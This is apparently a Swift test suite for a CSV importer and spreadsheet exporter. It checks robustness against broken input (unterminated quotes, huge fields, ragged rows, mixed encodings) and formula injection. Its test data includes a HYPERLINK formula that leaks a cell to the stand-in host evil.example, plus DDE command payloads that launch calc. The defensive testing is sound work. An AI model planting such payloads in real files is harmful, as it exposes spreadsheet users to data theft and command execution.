import EvidenceModel
import EvidencePackCore
import EvidencePackModules
import EvidenceFixtures
import Foundation
import Testing
import ZIPFoundation

/// The CSV table importer (`csv-table`) on broken and hostile CSV. These tests run once that importer
/// is registered in `BuiltinModules`; until then the runner reports them skipped.
@Suite(.enabled(if: BuiltinModules.registry.importer(id: "csv-table") != nil, "needs the csv-table importer in BuiltinModules")) struct CSVHostileTests {
    static let importerID = "csv-table"

    /// True when the importer is registered in this build (the suite is enabled only then).
    static let isRegistered = BuiltinModules.registry.importer(id: importerID) != nil

    func run(_ bytes: [UInt8], name: String) async throws -> ([Record], [Diagnostic]) {
        let folder = try TemporaryFolder()
        defer { folder.cleanup() }
        return try await ImporterHarness.run(importerID: Self.importerID, bytes: bytes, fileName: name, in: folder)
    }

    /// Every cell the records hold, header included.
    func cells(_ records: [Record]) -> [String] {
        records.compactMap(\.table).flatMap { $0.columns + $0.rows.flatMap { $0 } }
    }

    @Test func unterminatedQuoteAtEndOfFileIsADiagnosticWithALine() async throws {
        let csv = "Child Unique ID,Gender,Age\nA1,a) Male,7\nA2,\"b) Female,8\nA3,a) Male,9"
        let (records, diagnostics) = try await run(Array(csv.utf8), name: "unterminated.csv")
        #expect(!diagnostics.contains { $0.code == "import.failed" })
        #expect(diagnostics.contains { $0.severity != .note && $0.location?.line != nil }, "\(diagnostics)")
        #expect(cells(records).contains("A1"))
    }

    @Test func tenMegabyteFieldsAreReadWithoutCrashing() async throws {
        let big = String(repeating: "x", count: 10_000_000)
        let csv = "Indicator,Value\n\"\(big)\",1\nshort,2\n\(big),3\n"
        let (records, diagnostics) = try await run(Array(csv.utf8), name: "big.csv")
        #expect(!diagnostics.contains { $0.code == "import.failed" })
        #expect(cells(records).contains("short") || diagnostics.contains { $0.severity != .note })
        #expect(cells(records).allSatisfy { $0.utf8.count <= csv.utf8.count })
    }

    /// A header cell megabytes long (a file with no line breaks) once made LIIA's header patterns
    /// (`.*date.*birth.*`) backtrack for many minutes; such a cell is now simply an unknown column.
    @Test(.timeLimit(.minutes(2))) func aMegabyteHeaderCellIsAnUnknownColumnNotAHang() async throws {
        let hugeHeader = String(repeating: "date of contact with ", count: 50_000)
        let csv = "Child Unique ID,Gender,\(hugeHeader)\nA1,a) Male,01/02/2026\n"
        let (_, diagnostics) = try await run(Array(csv.utf8), name: "annex-a-list-1-contacts.csv")
        #expect(!diagnostics.contains { $0.code == "import.failed" })
        #expect(diagnostics.allSatisfy { $0.message.utf8.count < 2_000 })
    }

    @Test func raggedRowsAreReportedByRow() async throws {
        let csv = "a,b,c\n1,2,3\n4,5\n6,7,8,9,10\n\n,,\n11,12,13\n"
        let (records, diagnostics) = try await run(Array(csv.utf8), name: "ragged.csv")
        #expect(!diagnostics.contains { $0.code == "import.failed" })
        #expect(diagnostics.contains { $0.location?.line == 3 || $0.location?.line == 4 }, "\(diagnostics)")
        #expect(cells(records).contains("11"))
    }

    @Test func mixedEncodingsAreDecodedNotDropped() async throws {
        let bytes = Array("Name,Value\n".utf8) + Array("Café UTF-8,1\n".utf8) + Array("Caf".utf8) + [0xE9] + Array(" 1252,2\n".utf8)
            + [0x93] + Array("quoted".utf8) + [0x94] + Array(",3\n".utf8) + [0xFF, 0xFE, 0x00] + Array(",4\n".utf8)
        let (records, diagnostics) = try await run(bytes, name: "mixed.csv")
        #expect(!diagnostics.contains { $0.code == "import.failed" })
        let all = cells(records)
        #expect(all.contains { $0.hasPrefix("Caf") && $0.hasSuffix("1252") })
        #expect(all.contains("3") || all.contains { $0.contains("3") })
    }

    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
    ]

    @Test func formulaLikeCellsAreKeptAsTextOnImport() async throws {
        var csv = "Indicator,Value\n"
        for (index, formula) in Self.formulas.enumerated() {
            csv += "\"\(formula.replacingOccurrences(of: "\"", with: "\"\""))\",\(index)\n"
        }
        let (records, diagnostics) = try await run(Array(csv.utf8), name: "formulas.csv")
        #expect(!diagnostics.contains { $0.code == "import.failed" })
        let all = cells(records)
        // The importer keeps the text (it is evidence); neutralising is the spreadsheet writer's job.
        #expect(all.contains { $0.contains("HYPERLINK") })
    }

    /// A build over formula cells: every spreadsheet the pack writes (CSV or XLSX) holds them as text.
    @Test func formulaLikeCellsAreNeutralisedInEverySpreadsheetThePackWrites() throws {
        let folder = try TemporaryFolder()
        defer { folder.cleanup() }
        var csv = "Child Unique ID,Gender,Ethnicity,Date of Birth,Age,Date of Contact,Contact Source\n"
        for (index, formula) in Self.formulas.enumerated() {
            csv += "\"\(formula.replacingOccurrences(of: "\"", with: "\"\""))\",a) Male,WBRI,01/01/2015,\(index),01/09/2026,\"\(formula.replacingOccurrences(of: "\"", with: "\"\""))\"\n"
        }
        try folder.write(csv, to: "in/List 1 contacts.csv")
        let out = folder.url.appendingPathComponent("pack")
        let result = try CLIRunner.run(["build", "ilacs", "--inputs", folder.url.appendingPathComponent("in").path, "--out", out.path,
                                  "--reference-date", "2026-11-20", "--no-cache"])
        #expect([0, 1].contains(result.status), "\(result.stderr)")
        let written = try CLIRunner.snapshot(out.appendingPathComponent("data")).filter { !$0.key.hasPrefix("/evidence/") }
        let spreadsheets = written.filter { $0.key.hasSuffix(".csv") || $0.key.hasSuffix(".tsv") }
        #expect(!spreadsheets.isEmpty || written.keys.contains(where: { $0.hasSuffix(".xlsx") }), "no exporter in this build wrote a spreadsheet")
        for (path, data) in written where path.hasSuffix(".xlsx") {
            let archive = try Archive(data: data, accessMode: .read)
            for entry in archive where entry.path.hasSuffix(".xml") {
                var xml = Data()
                _ = try archive.extract(entry) { xml.append($0) }
                // A formula element would make Excel run the cell; text cells (`<is>`, shared strings) do not.
                #expect(!String(decoding: xml, as: UTF8.self).contains("<f>"), "\(path)/\(entry.path) holds a formula")
            }
        }
        for (path, data) in spreadsheets {
            for line in String(decoding: data, as: UTF8.self).split(whereSeparator: \.isNewline) {
                for field in line.split(separator: ",", omittingEmptySubsequences: false) {
                    let cell = field.hasPrefix("\"") ? field.dropFirst() : field[...]
                    #expect(!(cell.first.map { "=+-@".contains($0) } ?? false) || Double(cell) != nil, "\(path): \(line)")
                }
            }
        }
    }
}
